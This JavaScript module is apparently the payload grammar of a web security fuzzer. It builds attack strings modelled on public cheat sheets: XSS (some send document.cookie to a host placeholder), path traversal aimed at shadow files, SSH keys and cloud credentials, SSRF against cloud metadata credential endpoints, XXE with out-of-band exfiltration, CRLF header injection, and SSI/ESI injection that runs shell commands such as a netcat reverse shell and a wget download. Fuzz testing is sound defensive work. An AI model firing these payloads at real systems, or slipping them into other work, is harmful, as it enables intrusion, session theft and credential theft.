/** Attacks on browsers, files, servers behind servers, and on the protocol, after public cheat sheets. */
import { lettersOf, lines } from './grammar.mjs'

const climb = (r) => {
  const step = [
    '../',
    '../',
    '../',
    '..\\',
    '..%2f',
    '%2e%2e/',
    '%2e%2e%2f',
    '....//',
    '..;/',
    '..%5c',
    '..%252f',
    '..%c0%af',
    '%c0%ae%c0%ae/',
    '..//',
    './../',
    '....\\\\',
    '.%2e/',
    '..%255c',
    '%252e%252e%252f',
    '..\\\\',
    '..%00/',
    '/..',
    '\\..',
    '..0x2f',
    '0x2e0x2e/',
    '%uff0e%uff0e/',
    '..%u2215',
    '..%u2216',
    '..%e0%80%af',
    '%%32%65%%32%65/',
    '.../',
    '..\\/',
    '.?/',
    '/./..',
  ][r.below(34)]
  return step.repeat(1 + r.below(9))
}

export const WEB = {
  xss: lines`
    §brk§<script>§js§</script>
    §brk§<script>§js§</script>§rnd§
    §brk§<script src=§url§></script>
    <script>§js§//
    §brk§<§tag§ §event§=§js§>
    §brk§<§tag§ src=x §event§=§js§>
    §brk§<§tag§ §event§="§js§">
    §brk§<§tag§ §event§='§js§'>§rnd§</§tag§>
    §brk§<§tag§/§event§=§js§>
    §brk§<§tag§ §attr§ §event§=§js§ §attr§>
    §brk§<img src=x onerror=§js§>
    §brk§<img src="x:§rnd§" onerror="§js§">
    §brk§<svg onload=§js§>
    §brk§<svg/onload=§js§>
    §brk§<svg><script>§js§</script></svg>
    §brk§<svg><animate onbegin=§js§ attributeName=x dur=1s>
    §brk§<iframe src="javascript:§js§">
    §brk§<iframe srcdoc="<script>§js§</script>">
    §brk§<a href="javascript:§js§">§rnd§</a>
    §brk§<a href=javascript:§js§>click
    §brk§<body onload=§js§>
    §brk§<input autofocus onfocus=§js§>
    §brk§<details open ontoggle=§js§>
    §brk§<video><source onerror="§js§">
    §brk§<object data="data:text/html;base64,§b64§">
    §brk§<embed src="javascript:§js§">
    §brk§<form action="javascript:§js§"><input type=submit>
    §brk§<button formaction=javascript:§js§>§rnd§
    §brk§<meta http-equiv="refresh" content="0;url=javascript:§js§">
    §brk§<link rel=import href=§url§>
    §brk§<base href="§url§">
    §brk§<style>@import '§url§';</style>
    §brk§<style>@keyframes x{}</style><§tag§ style="animation-name:x" onanimationend="§js§"></§tag§>
    §brk§<math><mtext><table><mglyph><style><img src=x onerror=§js§>
    §brk§<noscript><p title="</noscript><img src=x onerror=§js§>">
    javascript:§js§
    javascript:/*--></title></style></textarea></script>§brk§<svg/onload='§js§'>
    JaVaScRiPt:§js§
    java&#x09;script:§js§
    data:text/html,<script>§js§</script>
    data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
    vbscript:msgbox(§n§)
    §q1§ §event§=§js§ §rnd§=§q1§
    §q1§ §event§=§q1§§js§
    §q1§ autofocus onfocus=§js§ x=§q1§
    §q1§-§js§-§q1§
    §q1§;§js§;//
    §q1§;§js§;§q1§
    §q1§});§js§;//
    \\§q1§;§js§//
    </script><script>§js§</script>
    </title><script>§js§</script>
    </textarea><img src=x onerror=§js§>
    --><script>§js§</script>
    ]]><script>§js§</script>
    <![CDATA[<script>§js§</script>]]>
    <scr<script>ipt>§js§</scr</script>ipt>
    <SCRIPT SRC=§url§></SCRIPT>
    <<script>§js§;//<</script>
    <img """><script>§js§</script>">
    <img src=javascript:§js§>
    <div style="background-image:url(javascript:§js§)">
    <div style="width:expression(§js§)">
    <xss style="-moz-binding:url(§url§)">
    <§tag§ onpointerenter=§js§>§rnd§</§tag§>
    <x contenteditable onblur=§js§>lose focus
    <marquee onstart=§js§>
    <table background="javascript:§js§">
    <isindex type=image src=1 onerror=§js§>
    <audio src onloadstart=§js§>
    <select onfocus=§js§ autofocus>
    <script/src=data:,§js§></script>
    <script x>§js§</script x>
    <script>eval(atob('§b64§'))</script>
    <img src=x onerror=eval(atob('§b64§'))>
    {{constructor.constructor('§js§')()}}
    {{$on.constructor('§js§')()}}
    [].constructor.constructor('§js§')()
    §brk§<script>var i=new Image();i.src="§url§?c="+document.cookie</script>
    §brk§<script>fetch('§url§?'+document.cookie)</script>
    <%00script>§js§</script>
    <script\\x20type="text/javascript">§js§;</script>
    \`"'><img src=x onerror=§js§>
    <a onmouseover="§js§">§rnd§</a>
    <p draggable=true ondragstart=§js§>§rnd§
    <template><script>§js§</script></template>
    <!--<img src="--><img src=x onerror=§js§//">
    <frameset onload=§js§>
    <set attributeName=onmouseover to=§js§>
    <use href="data:image/svg+xml;base64,§b64§#x">
  `,
  brk: [
    '',
    '',
    '',
    '">',
    "'>",
    '"/>',
    '>',
    '">',
    '"><',
    "'/>",
    '--></',
    '</title>',
    '</textarea>',
    '</style>',
    '</div>',
    '§rnd§',
    '§rnd§">',
    "';",
    '1">',
    ' ',
  ],
  q1: ['"', "'", '`'],
  js: [
    'alert(1)',
    'alert(§n§)',
    "alert('XSS')",
    'alert("§rnd§")',
    'alert(document.cookie)',
    'alert(document.domain)',
    'prompt(§n§)',
    'confirm(1)',
    'alert`1`',
    'eval(name)',
    "eval('al'+'ert(1)')",
    "window.location='§url§'",
    'document.location="§url§?"+document.cookie',
    'top["al"+"ert"](1)',
    'self[/*x*/`alert`](1)',
    'String.fromCharCode(88,83,83)',
    'alert(String.fromCharCode(§nn§,§nn§))',
    'document.write("<img src=§url§>")',
    "import('§url§')",
    'fetch(`§url§`)',
    'print()',
    'throw onerror=alert,1',
    "setTimeout('alert(1)')",
    '(alert)(1)',
    'a=alert,a(1)',
    '[1].find(alert)',
    'new Function`al\\ert\\`1\\``',
    'alert(window.origin)',
    'location=name',
    'alert(this)',
    'window["alert"](1)',
    'alert&lpar;1&rpar;',
    'alert&#40;1&#41;',
    '\\u0061lert(1)',
    'javascript:alert(1)',
    "$.getScript('§url§')",
    'document.body.innerHTML=1',
    "localStorage.getItem('token')",
    'console.log(1)',
    'prompt()',
    'alert()',
    'alert(/§rnd§/)',
  ],
  url: [
    '//§host§/x.js',
    'http://§host§/§rnd§',
    'https://§host§/§rnd§.js',
    '//§host§',
    'http://§host§',
    'https://§host§/?c=',
  ],
  tag: 'img svg body iframe input video audio a div p span button details marquee select textarea object embed form table td b i h1 br hr style title label fieldset legend option article section nav footer strong em x xss custom image math keygen meter progress ruby canvas area map picture source track dialog summary font center u s pre code q ins del abbr time mark template slot svg/ img/'.split(
    ' ',
  ),
  event:
    'onerror onload onclick onmouseover onfocus onblur onchange oninput onsubmit onkeydown onkeyup onkeypress onmousedown onmouseup onmousemove onmouseenter onmouseleave ondblclick oncontextmenu onwheel onscroll ontoggle onpointerdown onpointerover onpointerenter onanimationstart onanimationend ontransitionend onbeforeunload onhashchange onmessage onpageshow onpopstate onresize onunload oncopy oncut onpaste ondrag ondragstart ondrop onplay onloadstart oncanplay onended onbegin onstart onfinish onsearch onselect oninvalid onreset onfocusin onfocusout onauxclick onbeforeinput onloadeddata ontimeupdate onreadystatechange OnErRoR ONLOAD oNcliCk'.split(
      ' ',
    ),
  attr: [
    '',
    'id=x',
    'autofocus',
    'tabindex=1',
    'contenteditable',
    'style=display:block',
    'src=x',
    'src="1"',
    'href=#',
    'class="§rnd§"',
    'type=image',
    'open',
    'controls',
    'width=§num§',
    'draggable="true"',
    'hidden',
  ],

  traversal: lines`
    §climb§§target§
    §climb§§target§
    §climb§§target§
    /§climb§§target§
    §climb§§target§§end§
    §word§/§climb§§target§
    §word§=§climb§§target§
    /var/www/§climb§§target§
    /§target§
    /§target§
    /§target§§end§
    /static/§climb§§target§
    file=/§target§
    §climb§
    §climb§§word§
    §climb§§climb§
    §wrap§
    C:\\§wtarget§
    c:/§wtarget2§
    \\\\§host§\\share\\§rnd§
    //§host§/§rnd§.txt
    http://§host§/shell.txt?
    §climb§§wtarget2§
    §climb§§wtarget§
    §word§.php§end§
    /proc/self/environ
    file:///§target§
    file:///c:/§wtarget2§
    §rnd§.jpg/§climb§§target§
    ../§word§.§ext§
    ../../§word§.§ext§
    ../../config/§word§.§ext§
    /%5c..%5c..%5c§wtarget2§
    /.git/config
    /.env
    /WEB-INF/web.xml
    /..;/manager/html
    ..\\..\\..\\§wtarget§
    ....//....//....//§target§
    /etc/./passwd
    /etc//passwd
    /%2e%2e/%2e%2e/%2e%2e/§target§
    %00§climb§§target§
    §climb§§target§%00.§ext§
    §climb§§target§%2500.§ext§
    §climb§§target§?
    .\\\\./.\\\\./.\\\\./§target§
  `,
  climb,
  ext: ['jpg', 'png', 'html', 'php', 'txt', 'pdf', 'js', 'json', 'yml', 'conf', 'xml', 'bak', 'ini', 'sql'],
  end: [
    '%00',
    '%00.jpg',
    '%00.html',
    '%00.png',
    '\\0',
    '.',
    '/.',
    '?',
    '%20',
    '::$DATA',
    '%0a',
    '.jpg',
    '%2500',
    '/',
    '~',
    '.bak',
    ';.jpg',
    '%23',
  ],
  target: [
    'etc/passwd',
    'etc/passwd',
    'etc/shadow',
    'etc/hosts',
    'etc/group',
    'etc/hostname',
    'etc/issue',
    'etc/fstab',
    'etc/crontab',
    'etc/ssh/sshd_config',
    'etc/apache2/apache2.conf',
    'etc/nginx/nginx.conf',
    'etc/mysql/my.cnf',
    'etc/php.ini',
    'etc/httpd/conf/httpd.conf',
    'etc/resolv.conf',
    'etc/sudoers',
    'etc/motd',
    'etc/profile',
    'etc/os-release',
    'proc/self/environ',
    'proc/self/cmdline',
    'proc/version',
    'proc/self/fd/§n§',
    'proc/net/tcp',
    'proc/cpuinfo',
    'proc/1/cgroup',
    'root/.bash_history',
    'root/.ssh/id_rsa',
    'home/§rnd§/.ssh/authorized_keys',
    'home/user/.aws/credentials',
    'var/log/apache2/access.log',
    'var/log/auth.log',
    'var/log/nginx/error.log',
    'var/log/syslog',
    'var/www/html/index.php',
    'var/www/html/wp-config.php',
    'usr/local/apache/conf/httpd.conf',
    'usr/local/etc/php.ini',
    'var/lib/mysql/mysql/user.frm',
    'run/secrets/kubernetes.io/serviceaccount/token',
    'etc/kubernetes/admin.conf',
    'var/mail/root',
    'var/log/mysql.log',
    'opt/tomcat/conf/tomcat-users.xml',
    'WEB-INF/web.xml',
    'windows/win.ini',
    'boot.ini',
    '.env',
    '.git/HEAD',
    '.htpasswd',
    'wp-config.php',
    'config.php',
    'web.config',
    'id_rsa',
    'usr/share/passwd',
    'dev/null',
    'etc/inetd.conf',
    'etc/master.passwd',
    'apache/logs/access.log',
    'logs/error.log',
    'conf/server.xml',
    'database.yml',
    'config/secrets.yml',
    'app/etc/local.xml',
    'sites/default/settings.php',
    'localstart.asp',
    'autoexec.bat',
  ],
  wtarget: [
    'windows\\win.ini',
    'boot.ini',
    'windows\\system32\\drivers\\etc\\hosts',
    'winnt\\repair\\sam',
    'inetpub\\wwwroot\\web.config',
    'windows\\system32\\config\\SAM',
    'windows\\php.ini',
    'xampp\\apache\\logs\\access.log',
    'Users\\Administrator\\NTUser.dat',
    'windows\\system.ini',
    'windows\\debug\\netsetup.log',
    'unattend.xml',
  ],
  wtarget2: [
    'windows/win.ini',
    'boot.ini',
    'windows/system32/drivers/etc/hosts',
    'winnt/win.ini',
    'inetpub/wwwroot/global.asa',
    'windows/system32/cmd.exe',
    'xampp/phpMyAdmin/config.inc.php',
    'windows/repair/sam',
    'mysql/my.ini',
    'windows/system32/inetsrv/metabase.xml',
  ],
  wrap: [
    'php://filter/convert.base64-encode/resource=§word§.php',
    'php://filter/read=string.rot13/resource=/§target§',
    'php://input',
    'php://filter/resource=/§target§',
    'data://text/plain;base64,§b64§',
    'data:text/plain,<?php phpinfo(); ?>',
    'expect://id',
    'zip://§rnd§.zip%23§rnd§.php',
    'phar://§rnd§.phar/§rnd§.txt',
    'file:///§target§',
    'glob:///etc/*',
    'php://fd/§n§',
    'compress.zlib:///§target§',
    'php://filter/zlib.deflate/convert.base64-encode/resource=/§target§',
  ],

  ssrf: lines`
    §scheme§://§inner§§ipath§
    §scheme§://§inner§§ipath§
    §scheme§://§inner§:§port§§ipath§
    §scheme§://§inner§:§port§/
    §scheme§://§meta§
    §scheme§://§meta§
    §scheme§://§meta§
    §scheme§://§fake§@§inner§§ipath§
    §scheme§://§fake§@§inner§:§port§§ipath§
    §scheme§://§inner§#@§fake§/
    §scheme§://§fake§#@§inner§/
    §scheme§://§fake§\\@§inner§/
    §odd§
    §odd§
    //§inner§:§port§/
    §scheme§:§inner§:§port§
    §scheme§:\\\\§inner§\\§rnd§
    §scheme§://§inner§.nip.io§ipath§
    §scheme§://127.0.0.1.xip.io/
    §scheme§://§inner§:§port§@§fake§/
    url=§scheme§://§inner§§ipath§
    §scheme§://§fake§/redirect?url=§scheme§://§inner§§ipath§
    §scheme§%3A%2F%2F§inner§%2F
    §scheme§://①②⑦.⓪.⓪.①§ipath§
    §scheme§://⑯⑨。②⑤④。⑯⑨｡②⑤④/
    §inner§:§port§
  `,
  scheme: ['http', 'http', 'http', 'https'],
  inner: [
    '127.0.0.1',
    'localhost',
    '0.0.0.0',
    '127.1',
    '127.0.1',
    '0',
    '[::1]',
    '[::]',
    '[::ffff:127.0.0.1]',
    '[0:0:0:0:0:ffff:127.0.0.1]',
    '2130706433',
    '0x7f000001',
    '0177.0.0.1',
    '017700000001',
    '0x7f.0x0.0x0.0x1',
    '127.127.127.127',
    '10.0.0.§nn§',
    '10.§nn§.§nn§.§nn§',
    '192.168.0.§nn§',
    '192.168.1.1',
    '172.16.0.§nn§',
    '172.17.0.1',
    '169.254.169.254',
    '2852039166',
    '0xa9fea9fe',
    '0251.0376.0251.0376',
    '[::ffff:a9fe:a9fe]',
    'localhost.localdomain',
    'localtest.me',
    'admin.internal',
    'consul.service.consul',
    'redis.local',
    'vault.internal',
    'kubernetes.default.svc',
    'jenkins',
    'db',
    'elasticsearch',
    'internal-api',
    'intranet',
    'spoofed.burpcollaborator.net',
    'ip6-localhost',
    '127.0.0.1.nip.io',
    'lvh.me',
    'host.docker.internal',
    '①②⑦.⓪.⓪.①',
    'LOCALHOST',
    '127。0。0。1',
    '3232235777',
    'gitlab.corp',
    'etcd.kube-system.svc.cluster.local',
  ],
  port: [
    '22',
    '25',
    '80',
    '443',
    '3306',
    '5432',
    '6379',
    '8080',
    '8000',
    '8443',
    '9200',
    '2375',
    '27017',
    '11211',
    '5000',
    '8500',
    '10250',
    '9000',
    '5984',
    '4444',
    '15672',
    '2379',
    '6443',
    '9090',
    '3000',
  ],
  ipath: [
    '',
    '/',
    '/admin',
    '/server-status',
    '/§word§',
    '/api/v1/pods',
    '/v1/agent/self',
    '/_cat/indices',
    '/containers/json',
    '/actuator/env',
    '/console',
    '/manager/html',
    '/metrics',
    '/api/users',
    '/phpmyadmin',
    '/_search?q=*',
    '/script',
    '/health',
    '/config',
    '/debug/pprof',
    '/v1/kv/?recurse',
    '/version',
    '/internal/keys',
    '/jolokia',
    '/solr/admin/cores',
    '/.env',
  ],
  meta: [
    '169.254.169.254/latest/meta-data/',
    '169.254.169.254/latest/meta-data/iam/security-credentials/',
    '169.254.169.254/latest/meta-data/iam/security-credentials/§rnd§',
    '169.254.169.254/latest/user-data',
    '169.254.169.254/latest/dynamic/instance-identity/document',
    '169.254.169.254/latest/api/token',
    '169.254.169.254/',
    '169.254.169.254/computeMetadata/v1/',
    '169.254.169.254/metadata/instance?api-version=2021-02-01',
    '169.254.169.254/metadata/identity/oauth2/token?resource=https://management.azure.com/',
    '169.254.169.254/metadata/v1.json',
    '169.254.169.254/metadata/v1/id',
    '169.254.169.254/opc/v2/instance/',
    '169.254.169.254/openstack/latest/meta_data.json',
    '169.254.169.254/hetzner/v1/metadata',
    '169.254.169.254/2009-04-04/meta-data/public-keys/0/openssh-key',
    '169.254.169.254/latest/meta-data/local-ipv4',
    '169.254.170.2/v2/credentials/§hex§',
    'metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'metadata.google.internal/computeMetadata/v1beta1/',
    'metadata.google.internal/computeMetadata/v1/project/attributes/ssh-keys?alt=json',
    'metadata/computeMetadata/v1/project/',
    '100.100.100.200/latest/meta-data/',
    '100.100.100.200/latest/meta-data/ram/security-credentials/',
    '[fd00:ec2::254]/latest/meta-data/',
    '192.0.0.192/latest/meta-data/',
    'instance-data/latest/meta-data/hostname',
    'metadata.tencentyun.com/latest/meta-data/',
    'rancher-metadata/latest/',
    '0xA9FEA9FE/latest/meta-data/',
    '2852039166/latest/meta-data/',
    '[::ffff:169.254.169.254]/latest/meta-data/',
    'metadata.packet.net/userdata',
    '169.254.169.254.nip.io/latest/meta-data/',
  ],
  fake: [
    'example.com',
    'www.google.com',
    'trusted.example.org',
    'user',
    'admin:pass',
    'a',
    'expected-host.example',
    'foo',
    'google.com:80',
    'user:x',
  ],
  odd: [
    'gopher://§inner§:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a',
    'gopher://§inner§:25/_HELO%20localhost',
    'gopher://§inner§:3306/_%a3%00%00',
    'dict://§inner§:11211/stats',
    'dict://§inner§:6379/info',
    'ftp://§inner§/',
    'ftp://§host§:21/§rnd§',
    'sftp://§host§:11111/',
    'tftp://§host§:69/§rnd§',
    'ldap://§inner§:389/%0astats',
    'ldap://§host§/§rnd§',
    'file:///etc/passwd',
    'file://localhost/etc/passwd',
    'jar:http://§inner§!/',
    'netdoc:///etc/passwd',
    'smb://§inner§/share',
    'rsync://§inner§/',
    'telnet://§inner§:23',
    'ssh2://§inner§:22',
    'imap://§inner§',
    'unix:///var/run/docker.sock',
    'redis://§inner§:6379',
    'local_file:///etc/passwd',
    'svn://§inner§',
    'git://§inner§/',
    'mysql://§inner§:3306',
    'view-source:http://§inner§/',
  ],

  xxe: lines`
    §xml§<!DOCTYPE §dt§ [§el§<!ENTITY §ent§ SYSTEM "§sys§">]><§dt§>&§ent§;</§dt§>
    §xml§<!DOCTYPE §dt§ [<!ENTITY §ent§ SYSTEM "§sys§">]><§dt§><§word§>&§ent§;</§word§></§dt§>
    §xml§<!DOCTYPE §dt§ [ <!ENTITY % §ent§ SYSTEM "§sys§"> %§ent§; ]><§dt§/>
    §xml§<!DOCTYPE §dt§ SYSTEM "http://§host§/§rnd§.dtd"><§dt§>1</§dt§>
    §xml§<!DOCTYPE §dt§ PUBLIC "§rnd§" "§sys§"><§dt§/>
    §xml§<!DOCTYPE §dt§ [<!ENTITY % file SYSTEM "§sys§"><!ENTITY % dtd SYSTEM "http://§host§/e.dtd">%dtd;]><§dt§>&send;</§dt§>
    <!ENTITY % eval "<!ENTITY &#x25; §ent§ SYSTEM 'http://§host§/?x=%file;'>">
    §xml§<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>
    §xml§<!DOCTYPE §dt§ [<!ENTITY a0 "dos"><!ENTITY a1 "&a0;&a0;&a0;&a0;"><!ENTITY a2 "&a1;&a1;&a1;">]><§dt§>&a2;</§dt§>
    <foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="§sys§"/></foo>
    <xi:include href="§sys§" parse="text" xmlns:xi="http://www.w3.org/2001/XInclude"/>
    <svg xmlns="http://www.w3.org/2000/svg"><image xlink:href="expect://id"></image></svg>
    §xml§<!DOCTYPE svg [<!ENTITY §ent§ SYSTEM "§sys§">]><svg><text>&§ent§;</text></svg>
    <soap:Body><foo><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM "§sys§"> %dtd;]><xxx/>]]></foo></soap:Body>
    §xml§<!DOCTYPE §dt§ [\n<!ELEMENT §dt§ ANY >\n<!ENTITY §ent§ SYSTEM "§sys§" >]>\n<§dt§>&§ent§;</§dt§>
    <!DOCTYPE §dt§ [<!ENTITY §ent§ "§rnd§"> ]>\n<userInfo>\n <firstName>&§ent§;</firstName>\n</userInfo>
    <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:value-of select="document('§sys§')"/></xsl:stylesheet>
  `,
  xml: [
    '',
    '<?xml version="1.0"?>',
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<?xml version="1.0" encoding="ISO-8859-1"?>\n',
    '<?xml version="1.0" standalone="yes"?>',
    '<?xml version="1.0" encoding="utf-8"?>\n',
  ],
  dt: ['foo', 'root', 'data', 'test', 'r', 'x', 'order', 'message', 'doc', 'stockCheck', 'user', '§rnd§'],
  el: ['', '<!ELEMENT foo ANY>', '\n<!ELEMENT data (#ANY)>\n', '<!ELEMENT r ANY >'],
  ent: ['xxe', 'ent', 'file', 'x', 'test', 'sp', 'remote', 'payload', '§rnd§'],
  sys: [
    'file:///etc/passwd',
    'file:///etc/shadow',
    'file:///c:/windows/win.ini',
    'file:///c:/boot.ini',
    'http://§host§/',
    'http://§host§/x.dtd',
    'http://169.254.169.254/latest/meta-data/',
    'php://filter/read=convert.base64-encode/resource=index.php',
    'expect://id',
    'http://localhost:8080/',
    'ftp://§host§/',
    'file:///proc/self/environ',
    'jar:http://§host§/x.jar!/x',
    'gopher://§host§',
    'file:///dev/random',
    'https://§host§/§rnd§',
    'netdoc:/etc/passwd',
    'data://text/plain;base64,§b64§',
    'file:///etc/hostname',
  ],

  header: lines`
    §hval§§crlf§§hname§: §rnd§
    §hval§§crlf§Set-Cookie:§sp§§rnd§=§rnd§
    §hval§§crlf§Set-Cookie: admin=true
    §hval§§crlf§Location:§sp§http://§host§
    §hval§§crlf§Content-Length:§sp§0§crlf§§crlf§HTTP/1.1 200 OK§crlf§Content-Type: text/html§crlf§§crlf§<html>§rnd§</html>
    §hval§§crlf§§crlf§<script>alert(1)</script>
    §hval§§crlf§Content-Type: text/html§crlf§§crlf§<h1>§rnd§</h1>
    §hval§§crlf§Access-Control-Allow-Origin:§sp§*
    §hval§§crlf§X-§rnd§:§sp§§rnd§
    §hval§§crlf§Host:§sp§§host§
    §hval§§crlf§bcc:§sp§§rnd§@§host§
    §hval§§crlf§Subject: §rnd§§crlf§To: §rnd§@§host§
    §hval§§crlf§§crlf§GET /§word§ HTTP/1.1§crlf§Host: §host§
    §hval§§crlf§Transfer-Encoding: chunked§crlf§§crlf§0
    §hval§§crlf§Refresh: 0;url=http://§host§
    §hval§§crlf§Link: <http://§host§>
    §hval§§crlf§X-XSS-Protection:0
    §hval§§crlf§Status: 302
    §hval§§crlf§HTTP/1.0 200 OK
    §crlf§Set-Cookie:§rnd§=1;
    §crlf§Location: //§host§
    §crlf§Header-§rnd§:§rnd§
    //§host§/§crlf§Set-Cookie:§rnd§
    /§word§§crlf§X-Injected: §rnd§
  `,
  hval: [
    '',
    '',
    '§rnd§',
    '/§word§',
    'en',
    'http://example.com/',
    '?x=',
    '%3f',
    '%23',
    'en-US',
    '/',
    '§num§',
    'foo',
    'index.html',
    '//google.com/%2f..',
  ],
  crlf: [
    '\r\n',
    '%0d%0a',
    '%0D%0A',
    '%0a',
    '%0d',
    '\\r\\n',
    '%250d%250a',
    '\n',
    '%E5%98%8A%E5%98%8D',
    '\r',
    '%23%0d%0a',
    '%5cr%5cn',
    '%u000d%u000a',
    '\r\n ',
    '%0d%0a%20',
    '%3f%0d%0a',
    '%%0d0a',
    '%0d%0a%09',
    '嘊嘍',
    '\\n',
  ],
  hname: [
    'X-Injected',
    'Set-Cookie',
    'Location',
    'Content-Type',
    'X-Forwarded-For',
    'X-Test',
    'Header',
    'Cookie',
    'Cache-Control',
    'X-§rnd§',
    'Authorization',
    'Referer',
    'P3P',
    'ETag',
    'Content-Disposition',
    'Injected-Header',
    'Origin',
    'Via',
    'X-Cache',
  ],
  sp: ['', ' ', '%20'],

  ssi: lines`
    <!--#exec cmd="§shell§"-->
    <!--#exec cmd="§shell§" -->
    <!--#exec cgi="/cgi-bin/§rnd§.cgi"-->
    <!--#include virtual="/§target§"-->
    <!--#include file="§climb§§target§"-->
    <!--#include virtual="/cgi-bin/§rnd§.pl" -->
    <!--#echo var="§var§"-->
    <!--#echo var="§var§" -->
    <!--#printenv -->
    <!--#set var="§rnd§" value="§rnd§" -->
    <!--#config errmsg="§rnd§" timefmt="%A"-->
    <!--#flastmod virtual="§rnd§.html"-->
    <!--#fsize file="§rnd§.shtml" -->
    <!--#if expr="§rnd§"--><!--#endif-->
    <esi:include src="http://§host§/§rnd§"/>
    <esi:include src=http://§host§/>
    x=<esi:assign name="var1" value="'cript'"/><s<esi:vars name="$(var1)"/>>alert(1)</s>
    <esi:vars>$(HTTP_COOKIE)</esi:vars>
    <esi:debug/>
    <!--esi $add_header('Location','http://§host§') -->
    §brk§<!--#exec cmd="§shell§"-->
    <!-- #exec cmd="§shell§" -->
    <pre><!--#exec cmd="§shell§" --></pre>
  `,
  var: [
    'DATE_LOCAL',
    'DOCUMENT_NAME',
    'HTTP_USER_AGENT',
    'REMOTE_ADDR',
    'QUERY_STRING',
    'DOCUMENT_ROOT',
    'LAST_MODIFIED',
    'auth_type',
    'http_cookie',
    'server_name',
    'DATE_GMT',
    'PATH',
  ],
  shell: [
    'id',
    'ls',
    'cat /etc/passwd',
    'whoami',
    'dir',
    'wget http://§host§/s.sh',
    'uname -a',
    'nc -e /bin/sh §host§ 4444',
    'ls -la /',
    'ping -c 3 §host§',
  ],
  wide: (r) => lettersOf(r, 5, 'ａｂｃｄｅ'),
}
